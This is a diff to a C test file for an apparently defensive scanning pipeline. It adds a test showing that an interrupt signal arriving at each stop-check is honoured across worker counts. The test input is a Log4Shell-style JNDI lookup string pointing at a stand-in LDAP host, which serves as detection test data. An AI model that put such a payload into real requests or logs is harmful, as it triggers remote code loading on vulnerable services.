@@ -9,8 +9,11 @@
 #include "pipeline/run.h"
 
 #include <errno.h>
+#include <fcntl.h>
 #include <setjmp.h>
+#include <signal.h>
 #include <stdarg.h>
+#include <stdatomic.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -138,6 +141,57 @@ static ct_err run(const struct ct_alloc *alloc, int fd, unsigned workers, const 
     ct_source_close(source);
     ct_runner_free(r);
     return e;
+}
+
+/* A signal that comes just when it has been asked whether to stop, at each place where that is asked. */
+static volatile sig_atomic_t signalled;
+static atomic_uint times_asked;
+static unsigned signal_at;
+
+static void on_signal(int number) { signalled = number; }
+
+static bool on_between_signal(void *ctx, uint64_t consumed, uint64_t size)
+{
+    (void)ctx, (void)consumed, (void)size;
+    bool stop = signalled != 0;
+    if (atomic_fetch_add(&times_asked, 1) + 1 == signal_at) (void)kill(getpid(), SIGINT);
+    return stop;
+}
+
+static void no_signal_is_missed(void **state)
+{
+    (void)state;
+    struct seen *s = calloc(1, sizeof *s);
+    struct sigaction caught = {.sa_handler = on_signal}, before;
+    assert_non_null(s);
+    assert_int_equal(sigaction(SIGINT, &caught, &before), 0);
+    (void)alarm(60); /* a wait that no signal ends is ended by this one */
+    for (unsigned workers = 1; workers <= 3; workers += 2)
+        for (signal_at = 1; signal_at <= 4; signal_at++) {
+            static const char text[] = "a ${jndi:ldap://h.example/a}\n";
+            struct ct_run_handlers handlers = {s, on_finding, on_sighting, on_between_signal};
+            struct ct_run_from start = {0};
+            struct ct_run_report report;
+            ct_runner *r = NULL;
+            ct_source *source = NULL;
+            char path[40];
+            int ends[2];
+            signalled = 0;
+            times_asked = 0;
+            assert_int_equal(pipe2(ends, O_CLOEXEC), 0); /* its other end stays open */
+            assert_int_equal(write(ends[1], text, sizeof text - 1), sizeof text - 1);
+            (void)snprintf(path, sizeof path, "/proc/self/fd/%d", ends[0]);
+            assert_int_equal(ct_runner_new(&ct_alloc_libc, &scan_opts, workers, &r), CT_OK);
+            assert_int_equal(ct_source_open(&ct_alloc_libc, path, &source, &last_fault), CT_OK);
+            assert_int_equal(ct_run_source(r, source, CT_STR("pipe"), &start, &handlers, &report, &last_fault), CT_ERR_INTERRUPTED);
+            ct_source_close(source);
+            ct_runner_free(r);
+            (void)close(ends[0]);
+            (void)close(ends[1]);
+        }
+    (void)alarm(0);
+    assert_int_equal(sigaction(SIGINT, &before, NULL), 0);
+    free(s);
 }
 
 static unsigned threads_begun;
@@ -536,7 +590,7 @@ static void every_allocation_may_fail(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(threads_are_begun_for_what_is_there),
+        cmocka_unit_test(threads_are_begun_for_what_is_there), cmocka_unit_test(no_signal_is_missed),
         cmocka_unit_test(workers_agree), cmocka_unit_test(runs_go_on),         cmocka_unit_test(dense_blocks),
         cmocka_unit_test(files_shrink),  cmocka_unit_test(reads_fail),         cmocka_unit_test(long_lines_are_judged_once),
         cmocka_unit_test(long_lines_count_once), cmocka_unit_test(long_lines_start_again), cmocka_unit_test(odd_bytes_are_counted), cmocka_unit_test(every_allocation_may_fail),
